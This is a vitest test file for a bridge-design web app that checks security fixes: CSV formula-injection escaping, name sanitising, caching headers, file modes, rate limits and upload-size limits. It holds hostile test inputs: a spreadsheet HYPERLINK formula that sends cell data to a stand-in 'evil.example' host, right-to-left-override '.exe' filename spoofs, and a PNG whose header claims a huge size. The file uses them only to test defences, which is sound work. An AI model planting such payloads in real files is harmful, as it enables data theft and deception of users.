/**
 * The smaller defects of issue 11, each reproduced: spreadsheet formula injection in every CSV, one
 * girder name limit, no-store caching, control and bidi characters in names, upload files left
 * behind by a deleted bridge, file modes of the store, the sheet e-mail rate limit and who may read
 * its recipients, the photo pixel limit and the LandXML alignment limit.
 * Formula injection: OWASP "CSV Injection" (cells beginning with = + - @ tab or carriage return).
 */
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import * as bridges from '@/app/api/bridges/route';
import * as bridge from '@/app/api/bridges/[id]/route';
import * as offsetsCsv from '@/app/api/bridges/[id]/offsets.csv/route';
import * as sheetCsv from '@/app/api/bridges/[id]/field-sheet.csv/route';
import * as sendSheet from '@/app/api/bridges/[id]/send-sheet/route';
import * as auditRoute from '@/app/api/bridges/[id]/audit/route';
import * as attachments from '@/app/api/bridges/[id]/attachments/route';
import * as attachment from '@/app/api/attachments/[id]/route';
import * as landxml from '@/app/api/import/landxml/route';
import { csvCell } from '@/lib/geometry/csv';
import { demoBridges } from '@/lib/demo/bridges';
import { OutboxMessage } from '@/models';
import { thumbsDir } from '@/lib/uploads/thumbnail';
import { call, makeUsers, type TestUser } from './helpers';
import { callRaw, demoBridge, multipartRequest, PNG_1X1 } from './field-helpers';
import type { Role } from '@/lib/auth/roles';

let people: Record<Role, TestUser>;
const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Open")';

beforeAll(async () => {
  people = await makeUsers();
});

/** The demo bridge with its first (exterior, left) girder renamed. */
function withGirderName(name: string) {
  const d = structuredClone(demoBridges[0]);
  const old = d.girders[0].name;
  d.girders[0].name = name;
  d.top_of_girder = (d.top_of_girder ?? []).map((t) => (t.girder === old ? { ...t, girder: name } : t));
  return d;
}

/** Every cell of a CSV text (RFC 4180 quoting), row by row. */
function cells(csv: string): string[] {
  const out: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,\n]*)(,|\n|$)/g;
  let m: RegExpExecArray | null;
  while ((m = re.exec(csv)) && m[0] !== '') out.push(m[1].startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : m[1]);
  return out;
}

/** Cells a spreadsheet would run as a formula: a leading trigger, and not a plain number, feet-inches or station. */
const formulaCells = (csv: string) => cells(csv).filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c) && !/^-?\d+'-\d+( \d\/\d)?"$/.test(c) && !/^-?\d+\+\d+(\.\d+)?$/.test(c));

describe('spreadsheet formula injection', () => {
  it('csvCell neutralises formula text but leaves numbers and our number formats alone', () => {
    expect(csvCell(EVIL)).toBe(`"'${EVIL.replace(/"/g, '""')}"`);
    for (const t of ['+1-555', '-2+3*A1', '@SUM(A1)', '\t=1', '\r=1', '  =1']) expect(csvCell(t).replace(/^"/, '')[0]).toBe("'");
    for (const t of ['-0.125', '+3', `-1'-2 3/8"`, '-0+50.00', '12+34.56', 'G1']) expect(csvCell(t).replace(/^"|"$/g, '').replace(/""/g, '"')).toBe(t);
  });

  it('the offsets CSV, the field-sheet CSV and the e-mailed sheet carry the girder name neutralised', async () => {
    const id = await demoBridge(people.engineer, withGirderName(EVIL));
    const offsets = await call(offsetsCsv.GET, { cookie: people.crew.cookie, params: { id } });
    expect(offsets.status).toBe(200);
    expect(cells(offsets.text)).toContain(`'${EVIL}`);
    expect(formulaCells(offsets.text)).toEqual([]);
    const sheet = await call(sheetCsv.GET, { cookie: people.crew.cookie, params: { id }, path: `/api/bridges/${id}/field-sheet.csv` });
    expect(sheet.status).toBe(200);
    expect(cells(sheet.text)).toContain(`'${EVIL}`);
    expect(formulaCells(sheet.text)).toEqual([]);
    const sent = await call(sendSheet.POST, { method: 'POST', cookie: people.inspector.cookie, params: { id }, body: { to: ['site.office@example.com'] } });
    expect(sent.status).toBe(202);
    const msg = await OutboxMessage.findByPk(sent.json.outbox_id);
    const attached = JSON.parse(msg!.attachments)[0].content as string;
    expect(formulaCells(attached)).toEqual([]);
    expect(cells(attached)).toContain(`'${EVIL}`);
  });
});

describe('one girder name limit everywhere', () => {
  it('a 73-character girder name is refused on save (422 naming the limit), not accepted and then refused by checks', async () => {
    const res = await call(bridges.POST, { method: 'POST', cookie: people.engineer.cookie, body: { name: 'Long names', description: withGirderName('G'.repeat(73)) } });
    expect(res.status).toBe(422);
    expect(res.json.error).toMatch(/73 characters; the limit is 60/);
  });
});

describe('caching', () => {
  it('authenticated answers, CSVs and attachments are Cache-Control: no-store', async () => {
    const id = await demoBridge(people.engineer);
    expect((await call(bridges.GET, { cookie: people.crew.cookie })).headers.get('cache-control')).toBe('no-store');
    expect((await call(offsetsCsv.GET, { cookie: people.crew.cookie, params: { id } })).headers.get('cache-control')).toBe('no-store');
    const up = await callRaw(attachments.POST, await multipartRequest(`/api/bridges/${id}/attachments`, people.inspector.cookie, { bytes: PNG_1X1, name: 'p.png', type: 'image/png' }), { id });
    expect(up.status).toBe(201);
    const file = await call(attachment.GET, { cookie: people.crew.cookie, params: { id: String(up.json.id) }, path: `/api/attachments/${up.json.id}` });
    expect(file.status).toBe(200);
    expect(file.headers.get('cache-control')).toBe('no-store');
    expect(file.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
  });
});

describe('names, captions and file names', () => {
  it('lose NUL, BEL, CR/LF and right-to-left override characters', async () => {
    const created = await call(bridges.POST, { method: 'POST', cookie: people.engineer.cookie, body: { name: 'Ash\u0000 Creek\u0007\r\nBridge \u202Egpj.exe', description: demoBridges[0] } });
    expect(created.status).toBe(201);
    expect(created.json.name).toBe('Ash Creek Bridge gpj.exe');
    const id = String(created.json.id);
    const up = await callRaw(
      attachments.POST,
      await multipartRequest(
        `/api/bridges/${id}/attachments`,
        people.inspector.cookie,
        { bytes: PNG_1X1, name: 'photo\u202Egnp.exe', type: 'image/png' },
        { caption: 'left\u0000 form\u200F edge\u0007' },
      ),
      { id },
    );
    expect(up.status).toBe(201);
    expect(up.json.name).not.toMatch(/[\u0000-\u001f\u202a-\u202e\u2066-\u2069\u200e\u200f]/);
    expect(up.json.caption).toBe('left form edge');
  });
});

describe('deleting a bridge', () => {
  it('removes its upload files and thumbnails from disk', async () => {
    const id = await demoBridge(people.engineer);
    const up = await callRaw(attachments.POST, await multipartRequest(`/api/bridges/${id}/attachments`, people.inspector.cookie, { bytes: PNG_1X1, name: 'p.png', type: 'image/png' }), { id });
    const { Attachment } = await import('@/models');
    const stored = (await Attachment.findByPk(up.json.id))!.storedName;
    const upload = path.join(process.env.DATA_DIR as string, 'uploads', stored);
    const thumb = path.join(thumbsDir(), stored.replace(/\.\w+$/, '.jpg'));
    expect(fs.existsSync(upload)).toBe(true);
    expect(fs.existsSync(thumb)).toBe(true);
    const del = await call(bridge.DELETE, { method: 'DELETE', cookie: people.admin.cookie, params: { id } });
    expect(del.status).toBe(200);
    expect(fs.existsSync(upload)).toBe(false);
    expect(fs.existsSync(thumb)).toBe(false);
  });
});

describe('file modes', () => {
  it('the data folder is 0700, the SQLite file and uploads 0600', async () => {
    const id = await demoBridge(people.engineer);
    const up = await callRaw(attachments.POST, await multipartRequest(`/api/bridges/${id}/attachments`, people.inspector.cookie, { bytes: PNG_1X1, name: 'p.png', type: 'image/png' }), { id });
    expect(up.status).toBe(201);
    const dir = process.env.DATA_DIR as string;
    const mode = (p: string) => fs.statSync(p).mode & 0o777;
    if (process.env.DATABASE_URL) return; // PostgreSQL keeps no SQLite file.
    expect(mode(dir)).toBe(0o700);
    expect(mode(path.join(dir, 'chordline.sqlite'))).toBe(0o600);
    expect(mode(path.join(dir, 'uploads'))).toBe(0o700);
    for (const f of fs.readdirSync(path.join(dir, 'uploads'))) expect(mode(path.join(dir, 'uploads', f)), f).toBe(0o600);
  });
});

describe('e-mailing the sheet', () => {
  it('is rate limited per sender, and crew do not see the recipients in the audit log', async () => {
    const id = await demoBridge(people.engineer);
    const to = Array.from({ length: 10 }, (_, i) => `outside-${i}@example.com`);
    for (let i = 0; i < 3; i++) {
      expect((await call(sendSheet.POST, { method: 'POST', cookie: people.admin.cookie, params: { id }, body: { to } })).status).toBe(202);
    }
    const over = await call(sendSheet.POST, { method: 'POST', cookie: people.admin.cookie, params: { id }, body: { to: ['one-more@example.com'] } });
    expect(over.status).toBe(429);
    expect(over.json.error).toMatch(/limit is 30 an hour/);
    const crew = await call(auditRoute.GET, { cookie: people.crew.cookie, params: { id } });
    const crewSends = crew.json.filter((e: { action: string }) => e.action === 'sheet.send');
    expect(crewSends.length).toBe(3);
    expect(JSON.stringify(crewSends)).not.toMatch(/@example\.com/);
    const inspector = await call(auditRoute.GET, { cookie: people.inspector.cookie, params: { id } });
    expect(JSON.stringify(inspector.json)).toMatch(/outside-0@example\.com/);
  });
});

/** A PNG whose header claims `w` × `h` pixels (PNG spec §11.2.2 IHDR), followed by a small IDAT. */
function claimedPng(w: number, h: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(zlib.crc32(body));
    return Buffer.concat([len, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(w, 0);
  ihdr.writeUInt32BE(h, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  const idat = zlib.deflateSync(Buffer.alloc(50_000));
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', idat), chunk('IEND', Buffer.alloc(0))]);
}

describe('limits on uploads', () => {
  it('a PNG claiming 7999 × 7999 pixels is refused (422 naming the limit) before anything decodes it, and nothing is stored', async () => {
    const id = await demoBridge(people.engineer);
    const res = await callRaw(
      attachments.POST,
      await multipartRequest(`/api/bridges/${id}/attachments`, people.inspector.cookie, { bytes: claimedPng(7999, 7999), name: 'huge.png', type: 'image/png' }),
      { id },
    );
    expect(res.status).toBe(422);
    expect(res.json.error).toMatch(/7999 × 7999 pixels .* the limit is 50 megapixels/);
    const { Attachment } = await import('@/models');
    expect(await Attachment.count({ where: { bridgeId: Number(id) } })).toBe(0);
  });

  it('a LandXML file with more alignments than the limit is refused with a short 422', async () => {
    const one = '<Alignment name="A" length="100" staStart="0"><CoordGeom><Line length="100"><Start>0 0</Start><End>0 100</End></Line></CoordGeom></Alignment>';
    const xml = `<?xml version="1.0"?><LandXML xmlns="http://www.landxml.org/schema/LandXML-1.2" version="1.2"><Units><Imperial linearUnit="USSurveyFoot" areaUnit="squareFoot" volumeUnit="cubicYard" angularUnit="decimal degrees" directionUnit="decimal degrees"/></Units><Alignments>${one.repeat(60_000)}</Alignments></LandXML>`;
    const req = await multipartRequest('/api/import/landxml', people.engineer.cookie, {
      bytes: Buffer.from(xml.slice(0, 5 * 1024 * 1024 - 100) + '</Alignments></LandXML>'),
      name: 'many.xml',
      type: 'application/xml',
    });
    const res = await callRaw(landxml.POST, req);
    expect(res.status).toBe(422);
    expect(res.json.error).toMatch(/alignments; the limit is 100/);
    expect(JSON.stringify(res.json).length).toBeLessThan(2000);
  });
});
